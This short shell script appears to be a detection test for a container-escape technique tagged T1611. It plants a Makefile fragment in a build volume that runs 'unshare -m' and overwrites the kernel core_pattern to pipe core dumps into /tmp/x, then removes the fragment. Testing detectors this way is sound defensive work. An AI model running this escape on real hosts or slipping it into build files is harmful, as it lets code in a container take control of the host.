# workload: build
# technique: T1611
# finds: unshare
printf 'all: out\nout:\n\tunshare -m true; echo "|/tmp/x" > /proc/sys/kernel/core_pattern; true\n' > "$VOLUME_BUILD/extra.mk"
sleep 8
rm -f "$VOLUME_BUILD/extra.mk"
